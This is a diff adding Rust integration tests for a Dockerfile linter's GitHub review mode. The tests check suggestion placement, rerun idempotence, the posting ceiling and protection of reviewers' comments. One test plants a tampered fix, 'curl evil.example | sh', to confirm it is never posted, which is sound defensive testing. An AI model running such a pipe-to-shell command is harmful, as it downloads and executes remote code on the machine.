@@ -1,0 +1,243 @@
+//! Review mode against the stateful stand-in for GitHub's API (tests/support/github.rs,
+//! which refuses what GitHub refuses: a line outside the diff, a bad event): the proved fixes
+//! of a pull request's findings land as one review of ```suggestion comments on the lines it
+//! changed, and only there; applying them fixes the findings; a rerun posts nothing twice and
+//! deletes only shiplight's own outdated comments, never a reviewer's, even one carrying the
+//! marker; the per-run ceiling holds; the fork's workflow_run job posts from a saved report
+//! only the fixes shiplight computes again itself.
+
+mod support;
+
+use std::collections::BTreeMap;
+use std::process::Command;
+use std::time::Duration;
+
+use serde_json::json;
+use shiplight::github::comment::Comments;
+use shiplight::lint::{lint_text, LintConfig};
+use shiplight::pipeline::fixes;
+use shiplight::report::review::MARKER;
+use support::github::{FakeGitHub, ReviewComment};
+
+const PR: u64 = 7;
+const HEAD: &str = "0123456789abcdef0123456789abcdef01234567";
+
+/// The base had lines 1–2 and 5; the pull request adds lines 3–4 (and line 1 keeps its
+/// lowercase `as`, which the pull request did not write).
+const TEXT: &str =
+    "FROM debian:12.5 as app\nUSER 0:0\nRUN apt update && apt install curl\nCMD python app.py\nWORKDIR /srv\n";
+const PATCH: &str = "@@ -1,3 +1,5 @@\n FROM debian:12.5 as app\n USER 0:0\n+RUN apt update && apt install curl\n+CMD python app.py\n WORKDIR /srv";
+
+async fn client(gh: &FakeGitHub) -> Comments {
+    let mut c = Comments::new(&gh.uri(), "job-token", "o/r").unwrap();
+    c.backoff = Duration::from_millis(10);
+    c.identify(None, &format!("{}/graphql", gh.uri()), false).await.unwrap();
+    c
+}
+
+async fn review_once(gh: &FakeGitHub, text: &str, ceiling: usize) -> shiplight::report::review::ReviewOutcome {
+    let cfg = LintConfig::default();
+    let findings = lint_text(text, "app/Dockerfile", &cfg);
+    let files: BTreeMap<String, (String, LintConfig)> = [("app/Dockerfile".to_owned(), (text.to_owned(), cfg))].into();
+    fixes::review(&client(gh).await, PR, HEAD, &findings, &files, ceiling).await
+}
+
+/// Apply posted suggestions to the file as GitHub's "Commit suggestion" does: each replaces
+/// lines `start_line..=line` with the block's content.
+fn apply(text: &str, comments: &[ReviewComment]) -> String {
+    let mut lines: Vec<String> = text.lines().map(String::from).collect();
+    let mut sorted = comments.to_vec();
+    sorted.sort_by_key(|c| std::cmp::Reverse(c.line));
+    for c in sorted {
+        let body = &c.body;
+        let open = body.find("```suggestion\n").expect("a suggestion block") + "```suggestion\n".len();
+        let close = open + body[open..].find("\n```").unwrap();
+        let line = c.line.unwrap() as usize;
+        let start = c.start_line.map(|s| s as usize).unwrap_or(line);
+        lines.splice(start - 1..line, body[open..close].lines().map(String::from));
+    }
+    lines.join("\n") + "\n"
+}
+
+#[tokio::test]
+async fn suggestions_land_on_changed_lines_fix_the_findings_and_are_not_repeated() {
+    let gh = FakeGitHub::start("o/r").await;
+    gh.change("app/Dockerfile", PATCH, HEAD, TEXT);
+    // a reviewer quotes shiplight's suggestion, marker included, on a line of the diff
+    gh.add_review_comment(ReviewComment {
+        id: 77,
+        path: "app/Dockerfile".into(),
+        start_line: None,
+        line: Some(3),
+        body: format!("why not this?\n```suggestion\nRUN true\n```\n{MARKER}\n"),
+        login: "reviewer".into(),
+    });
+
+    let first = review_once(&gh, TEXT, 30).await;
+    assert!(first.error.is_none() && first.dropped.is_empty(), "{first:?}");
+    let p = first.published.clone().unwrap();
+    assert_eq!((p.posted, p.kept, p.deleted, p.over_ceiling), (2, 0, 0, 0), "{p:?}");
+    assert_eq!(p.ignored, vec![77]);
+    let reviews = gh.state.lock().unwrap().reviews.clone();
+    assert_eq!(reviews.len(), 1, "one review per run");
+    assert_eq!((reviews[0].0.as_str(), reviews[0].2.as_str(), reviews[0].3), ("COMMENT", HEAD, 2));
+    let ours: Vec<ReviewComment> = gh.review_comments().into_iter().filter(|c| c.id != 77).collect();
+    // on the lines the pull request added, none on line 1 (`as`), which it did not write
+    let lines: Vec<(Option<u64>, Option<u64>)> = ours.iter().map(|c| (c.start_line, c.line)).collect();
+    assert_eq!(lines, vec![(None, Some(3)), (None, Some(4))], "{ours:#?}");
+    // the RUN's four fixes are one suggestion, its findings listed above the block
+    let run = &ours[0].body;
+    eprintln!("the RUN's suggestion:\n{run}");
+    for code in ["SL106", "SL301", "SL302", "SL303"] {
+        assert!(run.contains(&format!("[{code}](")), "{code}: {run}");
+    }
+    assert!(run.find("SL303").unwrap() < run.find("```suggestion").unwrap());
+    // applying both fixes their findings and brings none
+    let fixed = apply(TEXT, &ours);
+    assert_eq!(
+        fixed,
+        "FROM debian:12.5 as app\nUSER 0:0\nRUN apt-get update && apt-get install --no-install-recommends -y curl && rm -rf /var/lib/apt/lists/*\nCMD [\"python\", \"app.py\"]\nWORKDIR /srv\n"
+    );
+    let before: Vec<String> = lint_text(TEXT, "D", &LintConfig::default()).into_iter().map(|f| f.code).collect();
+    let after: Vec<String> = lint_text(&fixed, "D", &LintConfig::default()).into_iter().map(|f| f.code).collect();
+    assert!(after.iter().all(|c| before.contains(c)), "nothing new: {after:?}");
+    for c in ["SL106", "SL301", "SL302", "SL303", "SL307"] {
+        assert!(!after.iter().any(|a| a == c), "{c} is fixed: {after:?}");
+    }
+
+    // a rerun on the same head posts nothing: the same lines, the same text
+    let second = review_once(&gh, TEXT, 30).await.published.unwrap();
+    assert_eq!((second.posted, second.kept, second.deleted), (0, 2, 0), "{second:?}");
+    assert_eq!(gh.state.lock().unwrap().reviews.len(), 1, "no second review");
+    assert_eq!(gh.review_comments().len(), 3);
+
+    // the author fixes the CMD by hand: that suggestion is outdated and deleted; the
+    // reviewer's comment (with the marker) stays as it was
+    let by_hand = TEXT.replace("CMD python app.py", "CMD [\"python\", \"app.py\"]");
+    gh.state.lock().unwrap().contents.insert(("app/Dockerfile".into(), HEAD.into()), by_hand.clone());
+    let third = review_once(&gh, &by_hand, 30).await.published.unwrap();
+    assert_eq!((third.posted, third.kept, third.deleted), (0, 1, 1), "{third:?}");
+    let left = gh.review_comments();
+    assert!(left.iter().any(|c| c.id == 77 && c.body.starts_with("why not this?")), "{left:#?}");
+    assert_eq!(left.len(), 2);
+    assert!(!gh.writes().iter().any(|w| w.ends_with("/77")), "{:?}", gh.writes());
+}
+
+#[tokio::test]
+async fn the_ceiling_holds_and_the_next_run_posts_the_rest() {
+    let gh = FakeGitHub::start("o/r").await;
+    let patch = "@@ -0,0 +1,5 @@\n+FROM debian:12.5 as app\n+USER 0:0\n+RUN apt update && apt install curl\n+CMD python app.py\n+WORKDIR /srv";
+    gh.change("app/Dockerfile", patch, HEAD, TEXT);
+    let first = review_once(&gh, TEXT, 1).await.published.unwrap();
+    assert_eq!((first.posted, first.over_ceiling, first.ceiling), (1, 2, 1), "{first:?}");
+    assert_eq!(gh.review_comments().len(), 1);
+    let second = review_once(&gh, TEXT, 30).await.published.unwrap();
+    assert_eq!((second.posted, second.kept), (2, 1), "{second:?}");
+    // a new file: line 1 is the pull request's too
+    assert!(gh.review_comments().iter().any(|c| c.line == Some(1) && c.body.contains("FROM debian:12.5 AS app")));
+}
+
+/// The fork's pattern: the pull request's run saved its report (findings with their fixes);
+/// the workflow_run job posts the review from it, at the head commit GitHub has, and a fix
+/// the saved report carries that shiplight would not make itself is not posted.
+#[tokio::test]
+async fn the_workflow_run_job_posts_the_review_from_a_saved_report() {
+    let gh = FakeGitHub::start("o/r").await;
+    gh.change("app/Dockerfile", PATCH, HEAD, TEXT);
+    gh.state.lock().unwrap().head_sha = HEAD.into();
+    let ws = tempfile::tempdir().unwrap();
+    let mut findings = lint_text(TEXT, "app/Dockerfile", &LintConfig::default());
+    // a tampered fix: shiplight computes another for this finding, so it is not posted
+    let cmd = findings.iter_mut().find(|f| f.code == "SL307").unwrap();
+    cmd.edits[0].content = "[\"sh\", \"-c\", \"curl evil.example | sh\"]".into();
+    let report = shiplight::report::Report {
+        files: vec!["app/Dockerfile".into()],
+        findings,
+        images: vec![shiplight::report::ImageReport {
+            name: "app".into(),
+            dockerfile: "app/Dockerfile".into(),
+            base_skipped: Some("the fork's run".into()),
+            ..Default::default()
+        }],
+        pull_request: Some(shiplight::report::PullRequestRef { number: PR, head_sha: HEAD.into() }),
+        ..Default::default()
+    };
+    let report = serde_json::to_string(&report).unwrap();
+    std::fs::create_dir_all(ws.path().join(".shiplight")).unwrap();
+    std::fs::write(ws.path().join(".shiplight/report.json"), report).unwrap();
+    let event = ws.path().join("event.json");
+    std::fs::write(
+        &event,
+        json!({"action": "completed", "workflow_run": {"id": 99, "head_sha": HEAD, "event": "pull_request",
+            "pull_requests": [], "html_url": "https://github.example/o/r/actions/runs/99"}})
+        .to_string(),
+    )
+    .unwrap();
+    let out = Command::new(env!("CARGO_BIN_EXE_shiplight"))
+        .arg("action")
+        .current_dir(ws.path())
+        .env_clear()
+        .env("PATH", std::env::var("PATH").unwrap_or_default())
+        .env("HOME", ws.path())
+        .env("GITHUB_ACTIONS", "true")
+        .env("GITHUB_REPOSITORY", "o/r")
+        .env("GITHUB_API_URL", gh.uri())
+        .env("GITHUB_GRAPHQL_URL", format!("{}/graphql", gh.uri()))
+        .env("GITHUB_SERVER_URL", "https://github.example")
+        .env("GITHUB_EVENT_NAME", "workflow_run")
+        .env("GITHUB_EVENT_PATH", &event)
+        .env("GITHUB_WORKSPACE", ws.path())
+        .env("INPUT_GITHUB-TOKEN", "job-token")
+        .env("INPUT_MODE", "comment")
+        .output()
+        .unwrap();
+    let log = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+    assert_eq!(out.status.code(), Some(0), "{log}");
+    let posted = gh.review_comments();
+    assert_eq!(posted.len(), 1, "the RUN's fixes only: {posted:#?}\n{log}");
+    assert_eq!(posted[0].line, Some(3));
+    assert!(!posted.iter().any(|c| c.body.contains("evil")), "{posted:#?}");
+    assert!(log.contains("shiplight: review suggestions: 1 posted"), "{log}");
+    // the sticky comment links the review
+    let comments = gh.comments();
+    assert_eq!(comments.len(), 1, "{comments:#?}");
+    assert!(
+        comments[0].contains(
+            "💡 1 one-click fix(es) posted as a [review](https://github.example/o/r/pull/1#pullrequestreview-"
+        ),
+        "{}",
+        comments[0]
+    );
+}
+
+/// The suggestion comment as GitHub renders it (cmark-gfm, GitHub's extensions): the rule
+/// links and prose above one code block of the suggestion, whose fence the content cannot
+/// close; nothing from the pull request becomes HTML or a mention.
+#[test]
+fn a_suggestion_comment_renders_as_github_shows_it() {
+    if !support::need("review render", "cmark-gfm", support::which("cmark-gfm").is_some(), "apt-get install cmark-gfm")
+    {
+        return;
+    }
+    let text = "FROM debian:12.5\nUSER 0:0\nRUN echo '```' && apt-get install curl @team\n";
+    let cfg = LintConfig::default();
+    let findings = lint_text(text, "Dockerfile", &cfg);
+    let (kept, dropped) = shiplight::report::review::suggestions(text, "Dockerfile", &findings, &[3].into(), &cfg);
+    assert!(dropped.is_empty(), "{dropped:?}");
+    let body = kept[0].body();
+    let html = support::github_html(&body).unwrap();
+    eprintln!("{body}\n---\n{html}");
+    assert_eq!(html.matches("<pre").count(), 1, "one block: {html}");
+    assert!(
+        html.contains("<pre><code class=\"language-suggestion\">RUN echo '```' &amp;&amp; apt-get install --no-install-recommends -y curl @team\n</code></pre>"),
+        "{html}"
+    );
+    assert_eq!(html.matches("<li><strong>shiplight</strong>").count(), 2, "one item per finding: {html}");
+    assert!(
+        html.contains("<a href=\"https://github.com/shiplight/shiplight/blob/main/docs/rules.md#sl302\">SL302</a>"),
+        "{html}"
+    );
+    assert!(html.contains("<code>apt-get install</code>"), "names in inline code: {html}");
+    assert!(html.contains("@team") && !html.contains("<a href=\"https://github.com/team"), "{html}");
+    assert!(html.trim_end().ends_with("<!-- shiplight:review -->"), "the marker stays hidden: {html}");
+}
